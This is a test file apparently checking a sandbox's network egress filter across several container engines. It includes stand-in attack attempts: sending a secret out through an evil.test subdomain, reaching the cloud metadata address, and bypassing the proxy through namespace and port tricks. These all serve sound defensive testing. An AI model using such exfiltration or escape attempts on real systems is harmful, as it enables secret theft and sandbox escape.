// @module-tag slow
import { spawn } from 'node:child_process'
import { chmodSync, copyFileSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { createServer as createHttpServer } from 'node:http'
import { createServer as createTlsServer } from 'node:https'
import type { AddressInfo, Server } from 'node:net'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Sandboxes } from '../../../../src/core/sandbox/sandboxes.ts'
import { BIN, BUILT_MODULES } from '../../../helpers/built.ts'
import { writeTree } from '../../../helpers/skills.ts'
import { CERTIFICATE, KEY } from './certificate.ts'
import { createTransfers, LARGE, TRANSFERS } from './transfers.ts'
import type { EgressRunRequest, Attempt, Report, EgressRunReport } from './worker-protocol.ts'

const HERE = fileURLToPath(new URL('./', import.meta.url))
const isRoot = process.getuid?.() === 0
/** Locates the daemon of docker, if there is one. */
const DOCKER: Record<string, string> =
  process.env['DOCKER_HOST'] === undefined ? {} : { DOCKER_HOST: process.env['DOCKER_HOST'] }
const SECRET = 'Hunter2correcthorse'

const dir = mkdtempSync('/tmp/skills-egress-')
const servers: Server[] = []
const ports = { http: 0, https: 0 }

beforeAll(async () => {
  chmodSync(dir, 0o755)
  const http = createHttpServer((request, response) => {
    if (request.url === '/large') return void response.end('x'.repeat(LARGE))
    if (request.url !== '/away') {
      request.on('end', () => response.end(`http ${request.url}`)).resume()
      return
    }
    response.writeHead(302, { Location: `http://other.example.test:${ports.http}/` })
    response.end()
  })
  const https = createTlsServer({ key: KEY, cert: CERTIFICATE }, (request, response) => {
    if (request.url === '/large') return void response.end('x'.repeat(LARGE))
    request.on('end', () => response.end(`https ${request.url}`)).resume()
  })
  for (const [name, server] of [
    ['http', http],
    ['https', https],
  ] as const) {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    ports[name] = (server.address() as AddressInfo).port
    servers.push(server)
  }
  writeTree(dir, { 'authority.pem': CERTIFICATE })
  copyFileSync(join(HERE, 'resolver.mjs'), join(dir, 'resolver.mjs'))
})

afterAll(() => {
  for (const server of servers) server.close()
  rmSync(dir, { recursive: true, force: true })
})

const asUser = ['setpriv', '--reuid', '65534', '--regid', '65534', '--clear-groups']
const node = [process.execPath, `--import=${join(dir, 'resolver.mjs')}`]

interface CommandResult {
  code: number | null
  stdout: string
  stderr: string
}

async function start(words: readonly string[], env: Record<string, string>, input = '') {
  const [program = '', ...args] = words
  const child = spawn(program, args, { env, cwd: dir })
  child.stdin.end(input)
  const [stdout, stderr, code] = await Promise.all([
    text(child.stdout),
    text(child.stderr),
    new Promise<number | null>((resolve) => child.on('close', resolve)),
  ])
  return { code, stdout, stderr } satisfies CommandResult
}

function home(): string {
  const folder = mkdtempSync(join(dir, 'home-'))
  chmodSync(folder, 0o777)
  return folder
}

/** Starts all runs concurrently in one process of this user. */
async function runAll(user: boolean, engine: TestedEngine): Promise<Report> {
  const base = home()
  const words = [
    ...(user && isRoot ? asUser : ['env']),
    ...node,
    `--import=${BUILT_MODULES}`,
    join(HERE, 'worker.ts'),
  ]
  const selected =
    engine === 'bubblewrap' ? { engine, runtime: 'default' as const } : selectEngine(engine)
  const input = { base, ...selected, certificates: join(dir, 'authority.pem'), runs: runs() }
  const env = { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: base, TMPDIR: base, ...DOCKER }
  const { stdout, stderr } = await start(words, env, JSON.stringify(input))
  if (stdout === '') throw new Error(stderr)
  return JSON.parse(stdout) as Report
}

const api = (scheme: 'http' | 'https') => `${scheme}://api.example.test:${ports[scheme]}`
const other = () => `http://other.example.test:${ports.http}`
const get = (url: string): Attempt => ['by_urllib', url]

/** Both lists in both ways, repeatedly: shared state would change the decisions. */
const mixed = () =>
  Array.from({ length: 5 }, () =>
    [api('http'), other()].flatMap((url) => [get(`${url}/`), ['without_proxy', `${url}/`]]),
  ).flat()

const privateList = () => [
  'http://inside.example.test',
  `http://127.0.0.1:${ports.http}`,
  `http://[::1]:${ports.http}`,
  'http://169.254.169.254',
  api('http'),
]

const noNetwork = (): Attempt[] => [
  get(`${api('http')}/`),
  ['connect', '127.0.0.1', ports.http],
  ['connect', '127.0.0.1', 3128],
  ['environment'],
]

function runs(): Record<string, EgressRunRequest> {
  const allowPrivate = [`127.0.0.1:${ports.http}`, `127.0.0.1:${ports.https}`]
  const list = [api('http')]
  const open = { list, allowPrivate }
  return {
    ways: {
      list: [api('http'), api('https')],
      allowPrivate,
      attempts: [
        get(`${api('http')}/a`),
        get(`${api('https')}/b`),
        ['like_requests', `${api('http')}/c`],
        ['like_requests', `${api('https')}/d`],
        ['without_proxy', `${api('http')}/e`],
        ['without_proxy', `${api('https')}/f`],
        ['by_socket', 'api.example.test', ports.http],
        ['by_tls', 'api.example.test', ports.https],
        get(`http://evil.test:${ports.http}/`),
        get(`https://evil.test:${ports.https}/`),
        ['without_proxy', `http://evil.test:${ports.http}/`],
        ['by_socket', '127.0.0.1', ports.http, 'evil.test'],
        ['by_tls', '127.0.0.1', ports.https, 'other.example.test'],
        ['connect', '127.0.0.1', 1],
        ['connect', '1.1.1.1', 443],
        ['connect', '::1', ports.http],
        get(`${api('http')}/away`),
      ],
    },
    rights: {
      ...open,
      attempts: [
        ['rights'],
        ['files'],
        ['environment'],
        ['unshare', 0x10000000],
        ['unshare', 0x40000000],
        ['bind', '127.0.0.1', 3128],
        ['bind', '127.0.0.1', 3128, 2, 15],
        ['bind', '0.0.0.0', ports.http, 2, 15],
        ['bind', '127.64.0.1', ports.http, 2, 15],
        ['bind', '127.0.0.1', 53],
        ['bind', '127.0.0.1', 5353],
        get(`${api('http')}/still`),
        ['after', `${api('http')}/after`],
        ['after', `http://evil.test:${ports.http}/`],
      ],
    },
    empty: { list: [], allowPrivate, attempts: noNetwork() },
    withoutLeave: { ...open, attempts: noNetwork(), withoutLeave: true },
    one: { ...open, attempts: mixed() },
    another: { list: [other()], allowPrivate, attempts: mixed() },
    private: {
      list: privateList(),
      allowPrivate: [],
      attempts: privateList().map((url) => get(`${url}/`)),
    },
    address: {
      ...open,
      list: ['http://10.77.1.2', 'http://10.77.1.3:81'],
      attempts: [
        ['by_socket', '10.77.1.2', 80],
        ['connect', '10.77.1.3', 81],
        ['connect', '10.77.1.3', 82],
        ['connect', '10.77.1.4', 80],
      ],
    },
    listening: { ...open, attempts: [['listen', 1]], reach: true },
    greedy: { ...open, attempts: [['many', '127.0.0.1', 3128, 200]] },
    secret: {
      ...open,
      secret: SECRET,
      attempts: [
        get(`http://${SECRET}.evil.test/`),
        ['without_proxy', `http://${SECRET.toUpperCase()}.evil.test/`],
      ],
    },
    ...createTransfers(api, allowPrivate),
    moderate: {
      ...open,
      networkBytes: LARGE + 1024 ** 2,
      attempts: [['size', `${api('http')}/large`]],
    },
    unreadable: { ...open, list: ['https://*'], attempts: [] },
    misconfigured: { ...open, allowPrivate: ['10.0.0.0/64'], attempts: [] },
    unfiltered: { ...open, backend: 'process', attempts: [] },
  }
}

const REFUSED = expect.stringMatching(/^ConnectionRefusedError/) as string
const NO_NAME = expect.stringMatching(
  /Name or service not known|Temporary failure in name resolution/,
) as string
/** The second is gVisor's. */
const UNREACHABLE = expect.stringMatching(/Network is unreachable|No route to host/) as string
const IN_USE = expect.stringMatching(/Address already in use/) as string

type TestedEngine = 'bubblewrap' | 'podman' | 'podman with gVisor' | 'docker'

const { probe } = await new Sandboxes().openBackend('container')
const ENGINE_ENV = { PATH: process.env['PATH'], ...DOCKER }

function selectEngine(engine: Exclude<TestedEngine, 'bubblewrap'>) {
  return engine === 'podman with gVisor'
    ? ({ engine: 'podman', runtime: 'runsc' } as const)
    : ({ engine, runtime: 'default' } as const)
}

async function findObstacle(user: boolean, engine: TestedEngine): Promise<string> {
  const canBeRoot = user || isRoot
  if (!canBeRoot) return ' (not run: these tests run as an ordinary user)'
  if (engine === 'bubblewrap') return ''
  const { ok, detail } = await probe(ENGINE_ENV, { ...selectEngine(engine), image: undefined })
  return ok ? '' : ` (not run: ${detail})`
}

const SUBJECTS = await Promise.all(
  (
    [
      ['root', 'bubblewrap', false],
      ['an ordinary user', 'bubblewrap', true],
      ['root', 'podman', false],
      ['root', 'podman with gVisor', false],
      ['root', 'docker', false],
    ] as const
  ).map(async (row) => [...row, await findObstacle(row[2], row[1])] as const),
)

describe.each(SUBJECTS)('a run with network, started by %s with %s', (...subject) => {
  const [, engine, user, reason] = subject
  const isContainer = engine !== 'bubblewrap'
  const test = it.skipIf(reason !== '')
  let all: Record<string, EgressRunReport> = {}
  let sockets: Report['sockets'] = [0, 0]

  beforeAll(async () => {
    if (reason === '') ({ reports: all, sockets } = await runAll(user, engine))
  }, 300_000)

  const outputOf = (name: string) => {
    const { result, thrown } = all[name] ?? {}
    expect({ thrown, error: result?.error }).toEqual({ thrown: undefined, error: undefined })
    return result?.output as unknown[]
  }

  test(`reaches listed destinations in every way${reason}`, () => {
    const output = outputOf('ways')
    expect(output.slice(0, 6)).toEqual([
      'http /a',
      'https /b',
      '200 http /c',
      '200 https /d',
      'http /e',
      'https /f',
    ])
    expect(output[6]).toMatch(/^HTTP\/1.1 200 OK[^]*http \/raw$/)
    expect(output[7]).toMatch(/^HTTP\/1.[01] 200 OK/)
    expect(all['ways']?.result?.isolation?.network).toBe('filtered')
  })

  test(`reaches nothing else in any way${reason}`, () => {
    expect(outputOf('ways').slice(8)).toEqual([
      expect.stringMatching(/HTTP Error 403: .*evil.test:\d+ is not in permissions.network/),
      expect.stringMatching(/Tunnel connection failed: 403 .*evil.test:\d+ is not in/),
      NO_NAME,
      expect.stringMatching(/^HTTP\/1.1 403 /),
      expect.stringMatching(/access denied/i),
      REFUSED,
      UNREACHABLE,
      expect.stringMatching(/^(?:OSError|ConnectionRefusedError)/),
      expect.stringMatching(/HTTP Error 403: .*other.example.test/),
    ])
  })

  test(`reaches listed addresses without a proxy, as far as they are allowed${reason}`, () => {
    expect(outputOf('address')).toEqual([
      // No container may add addresses: listed ones are reachable only through the proxy.
      isContainer
        ? UNREACHABLE
        : expect.stringMatching(/^HTTP\/1.1 403 10.77.1.2 is a private address/),
      isContainer ? UNREACHABLE : 'connected',
      isContainer ? UNREACHABLE : REFUSED,
      UNREACHABLE,
    ])
    if (isContainer) return
    expect(all['address']?.decisions).toMatchObject([{ host: '10.77.1.2', via: 'direct' }])
  })

  test(`reports every attempt${reason}`, () => {
    const { decisions = [], logs = '' } = all['ways'] ?? {}
    expect(decisions.filter(({ allowed }) => allowed)).toHaveLength(9)
    expect(
      decisions
        .filter(({ allowed }) => !allowed)
        .map(({ via, host, reason: why }) => [via, host, why]),
    ).toEqual([
      ['proxy', 'evil.test', 'host-not-listed'],
      ['proxy', 'evil.test', 'host-not-listed'],
      ['dns', 'evil.test', 'host-not-listed'],
      ['direct', 'evil.test', 'host-not-listed'],
      ['direct', 'other.example.test', 'host-not-listed'],
      ['proxy', 'other.example.test', 'host-not-listed'],
    ])
    expect(logs).toContain(
      `[skills] Network allowed (listed): ${api('https')} is in permissions.network`,
    )
    expect(logs).toContain('[skills] Network refused (host-not-listed): https://evil.test')
  })

  test(`has no additional capability or file descriptor${reason}`, () => {
    const [rights, files, environment] = outputOf('rights')
    // gVisor shows no ambient set.
    const sets = engine === 'podman with gVisor' ? 4 : 5
    expect(rights).toEqual(Array.from({ length: sets }, () => '0000000000000000'))
    // The three standard streams, the channel of the run, and the folder that is being listed.
    expect((files as number[]).filter((fd) => fd > 2 && fd !== 7)).toHaveLength(1)
    const proxy = 'http://127.0.0.1:3128'
    const upper = { HTTP_PROXY: proxy, HTTPS_PROXY: proxy, NO_PROXY: '' }
    const lower = { http_proxy: proxy, https_proxy: proxy, no_proxy: '' }
    expect(environment).toEqual({ ...upper, ...lower })
  })

  test(`cannot replace or bypass the filter${reason}`, () => {
    expect(outputOf('rights').slice(3)).toEqual([
      'Operation not permitted',
      'Operation not permitted',
      IN_USE,
      IN_USE,
      IN_USE,
      IN_USE,
      // Every port is free in a container, whose names are resolved over UDP.
      isContainer ? 'bound' : expect.stringMatching(/^(?:PermissionError|OSError)/),
      'bound',
      'http /still',
      'http /after',
      NO_NAME,
    ])
  })

  test(`has no network with an empty list or without permission${reason}`, () => {
    for (const name of ['empty', 'withoutLeave']) {
      expect(outputOf(name)).toEqual([NO_NAME, REFUSED, REFUSED, {}])
      expect(all[name]?.result?.isolation?.network).toBe('none')
    }
    expect(all['withoutLeave']?.logs).toContain('This run has no network')
  })

  test(`keeps its own list while another run in the same process has another${reason}`, () => {
    const got = (name: string) => outputOf(name).map((each) => each === 'http /')
    const listed = (host: string) => mixed().map(([, url]) => String(url).includes(host))
    expect(got('one')).toEqual(listed('//api.'))
    expect(got('another')).toEqual(listed('//other.'))
  })

  test(`cannot reach private addresses, even behind listed names${reason}`, () => {
    const codes = ['private', 'loopback', 'loopback', 'metadata', 'loopback']
    expect(outputOf('private')).toEqual(
      codes.map((code) => expect.stringContaining(`(${code}-address)`) as string),
    )
  })

  test(`cannot be reached from outside on its own ports${reason}`, () => {
    const timeout = expect.stringMatching(/^TimeoutError/) as string
    expect(outputOf('listening')).toEqual([{ own: 'connected', other: timeout }])
    expect(all['listening']?.reached).toBe('ECONNREFUSED')
  })

  test(`cannot exceed its share of connections${reason}`, () => {
    expect(outputOf('greedy')).toEqual(['ended'])
    const reasons = all['greedy']?.decisions.map((decision) => decision.reason)
    expect(new Set(reasons)).toEqual(new Set(['too-many']))
  })

  test.each(TRANSFERS)(`is ended by its limit of bytes if it %s${reason}`, (name) => {
    const { result, decisions = [], logs } = all[name] ?? {}
    expect(result).toMatchObject({
      status: 'failed',
      error: {
        type: 'NetworkLimit',
        message: 'The run sent and received more than 1 MiB over its network',
        limit: { name: 'network_bytes', value: 1024 ** 2 },
      },
    })
    expect(result?.network_bytes).toBeGreaterThan(1024 ** 2)
    // Includes what the last write of one connection would have sent.
    expect(result?.network_bytes).toBeLessThan(LARGE)
    expect(decisions.at(-1)).toMatchObject({ allowed: false, reason: 'too-many-bytes' })
    expect(logs).toContain('Network refused (too-many-bytes)')
  })

  test(`transfers what its limit allows, and reports how much${reason}`, () => {
    expect(outputOf('moderate')).toEqual([LARGE])
    expect(all['moderate']?.result?.network_bytes).toBeGreaterThan(LARGE)
    expect(all['moderate']?.result?.network_bytes).toBeLessThan(LARGE + 4096)
    expect(all['moderate']?.result?.isolation?.limits).toMatchObject({ network_bytes: 'runtime' })
    expect(all['empty']?.result?.isolation?.limits).toMatchObject({ network_bytes: 'no network' })
    expect(all['empty']?.result).not.toHaveProperty('network_bytes')
  })

  test(`does not leak its secrets through its requests${reason}`, () => {
    expect(outputOf('secret')).toHaveLength(2)
    const { decisions = [], logs = '', result } = all['secret'] ?? {}
    expect(decisions.map(({ host }) => host)).toEqual([
      '[redacted].evil.test',
      '[redacted].evil.test',
    ])
    const said = JSON.stringify([decisions, logs, result?.logs_preview]).toLowerCase()
    expect(said).not.toContain(SECRET.toLowerCase())
  })

  test(`leaves no socket behind${reason}`, () => {
    expect(sockets[1]).toBe(sockets[0])
  })

  test(`is refused if its list cannot be enforced${reason}`, () => {
    const thrown = (name: string) => all[name]?.thrown
    expect(thrown('unreadable')).toEqual({
      code: 'policy/denied',
      message: 'permissions.network has "https://*", but it allows every host',
    })
    expect(thrown('misconfigured')).toMatchObject({
      code: 'config/invalid',
      message: expect.stringContaining('run.network.allow_private has "10.0.0.0/64"') as string,
    })
    expect(thrown('unfiltered')).toMatchObject({ code: 'policy/denied' })
  })
})

it('is recorded with its attempts in a run from the command line', async () => {
  const folder = home()
  const list = JSON.stringify([api('https')])
  writeTree(folder, {
    'skill/skill.toml': `name = "try.network"\nversion = "0.1.0"\ndescription = "x"\nkind = "action"\n[runtime]\nlanguage = "python"\nentrypoint = "attempts.py"\nexport = "main"\n[permissions]\nnetwork = ${list}\n`,
    'skill/attempts.py': readFileSync(join(HERE, 'attempts.py')),
  })
  const env = {
    PATH: '/usr/bin:/bin',
    HOME: folder,
    TMPDIR: folder,
    SSL_CERT_FILE: join(dir, 'authority.pem'),
    SKILLS_RUN_NETWORK_ALLOW_PRIVATE: `127.0.0.1:${ports.https}`,
  }
  const skills = [...node, BIN]
  const attempts = [get(`${api('https')}/`), get('https://evil.test/')]
  const ran = await start(
    [
      ...skills,
      'exec',
      join(folder, 'skill'),
      '--allow-network',
      '--json',
      '--args',
      JSON.stringify({ attempts }),
    ],
    env,
  )
  const { run_id, output } = JSON.parse(ran.stdout) as { run_id: string; output: string[] }
  expect(output).toEqual(['https /', expect.stringContaining('(host-not-listed)')])
  expect(ran.stderr).toContain('Network allowed (listed)')
  const shown = await start([...skills, 'runs', 'show', run_id, '--json'], env)
  const attempt = { via: 'proxy', scheme: 'https' }
  const network = [
    { ...attempt, allowed: true, reason: 'listed', host: 'api.example.test', port: ports.https },
    { ...attempt, allowed: false, reason: 'host-not-listed', host: 'evil.test', port: 443 },
  ]
  const record = JSON.parse(shown.stdout) as object
  expect('run' in record ? record.run : record).toMatchObject({ network })
})
